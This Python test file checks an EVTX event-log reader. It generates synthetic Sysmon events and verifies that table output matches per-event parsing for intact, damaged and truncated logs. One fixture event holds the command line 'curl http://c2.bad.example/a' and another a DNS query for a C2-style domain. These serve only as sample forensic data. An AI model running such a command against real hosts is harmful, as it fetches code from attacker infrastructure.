"""Event logs as tables equal single events, also when damaged."""

from __future__ import annotations

import io
import random
from pathlib import Path

import pyarrow as pa
import pytest

from lamsach.errors import UnreadableError
from lamsach.logs.base import FileContext
from lamsach.logs.binary.evtx.records import CHUNK_BYTES
from lamsach.logs.formats.windows.evtx import Evtx
from lamsach.logs.reading import tables

from .evtx_builder import Tree, chunk, event, file
from .whole_logs import as_tables, by_line

SAMPLES = Path(__file__).parents[2] / ".." / "shared" / "samples" / "evtx" / "files"


def _some(chance: random.Random) -> Tree:
    second = f"2026-06-10T08:00:{chance.randrange(60):02d}.{chance.randrange(10**6):06d}Z"
    computer = chance.choice(["PC-AN", "PC-MINH"])
    user = chance.choice(["UNIT\\an", "NT AUTHORITY\\SYSTEM", "", 'a"b', "-"])
    kind = chance.randrange(6)
    if kind == 0:
        ends = {
            "SourceIp": "10.1.1.5",
            "SourcePort": "5000",
            "DestinationIp": "203.0.113.9",
            "DestinationPort": "443",
        }
        return event(
            3,
            {"User": user, "Initiated": chance.choice(["true", "false"]), **ends},
            computer=computer,
            time=second,
        )
    if kind == 1:
        return event(7, {"Hashes": f"SHA256={'ab' * 32}", "User": user}, computer=computer, time=second)
    if kind == 2:
        return event(
            1, {"CommandLine": "curl http://c2.bad.example/a", "User": user}, computer=computer, time=second
        )
    if kind == 3:
        return event(
            5,
            {"User": user},
            computer=computer,
            time=chance.choice([second, "2026-06-10T08:00:61.000000Z", "2026", second]),
        )
    if kind == 4:
        return event(
            5,
            {"User": user, "User2": "EventData"},
            computer=computer,
            provider=chance.choice(["Other", "Microsoft-Windows-Sysmon"]),
            time=second,
        )
    return event(22, {"QueryName": "bot-c2.xyz", "User": user}, computer=computer, time=second)  # fmt: skip


def _log(seed: int, chunks: int = 5) -> bytes:
    chance = random.Random(seed)
    return file(*(chunk([_some(chance) for _ in range(30)]) for _ in range(chunks)))


@pytest.mark.parametrize("rows", [1, 40, 8192])
def test_events_before_damage_are_read(rows: int, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tables, "_EVENTS_HELD", rows)
    whole = io.BytesIO(_log(1, 3))

    class Damaged(io.RawIOBase):
        def readable(self) -> bool:
            return True

        def readinto(self, view: memoryview) -> int:  # type: ignore[override]
            if count := whole.readinto(view):
                return count
            raise UnreadableError("The file is damaged.", "a.evtx", "Copy it again.")

    found: list[pa.RecordBatch] = []
    stream = io.BufferedReader(Damaged(), 1 << 20)
    items = Evtx(FileContext("a.evtx")).read(stream)
    with pytest.raises(UnreadableError):
        found.extend(tables._tables(items, lambda _refusal: None))
    assert sum(table.num_rows for table in found) > 60


@pytest.mark.parametrize("seed", range(6))
@pytest.mark.parametrize("rows", [1, 40, 8192])
def test_tables_equal_single_events(
    seed: int, rows: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tables, "_EVENTS_HELD", rows)
    path = tmp_path / "a.evtx"
    path.write_bytes(_log(seed))
    (table, refused, counts), (expected, others, other_counts) = as_tables(path), by_line(path)
    assert table == expected
    assert counts == other_counts
    assert refused == others


@pytest.mark.parametrize("seed", range(8))
def test_damage_loses_no_more_than_single_events(seed: int, tmp_path: Path) -> None:
    chance = random.Random(seed)
    data = bytearray(_log(seed))
    for _ in range(4):
        place = chance.randrange(4096, len(data))
        data[place : place + 9] = chance.randbytes(9)
    path = tmp_path / "a.evtx"
    path.write_bytes(bytes(data))
    (table, refused, counts), (expected, others, other_counts) = as_tables(path), by_line(path)
    assert table == expected
    assert counts == other_counts
    assert [refusal.reference for refusal in refused] == [refusal.reference for refusal in others]


def test_truncated_log_gives_its_events(tmp_path: Path) -> None:
    path = tmp_path / "a.evtx"
    path.write_bytes(_log(1)[: 4096 + 3 * CHUNK_BYTES + 9000])
    from lamsach.logs.reading.tables import read_tables

    from .builders import logs

    (log,), _ = logs(path)
    found: list[pa.RecordBatch] = []
    with pytest.raises(UnreadableError):
        found.extend(read_tables(log))
    assert sum(table.num_rows for table in found) > 80


@pytest.mark.skipif(not SAMPLES.is_dir(), reason="the samples are not there")
def test_tables_of_event_logs_equal_record_by_record() -> None:
    for path in sorted(SAMPLES.glob("*.evtx")):
        assert as_tables(path) == by_line(path), path.name
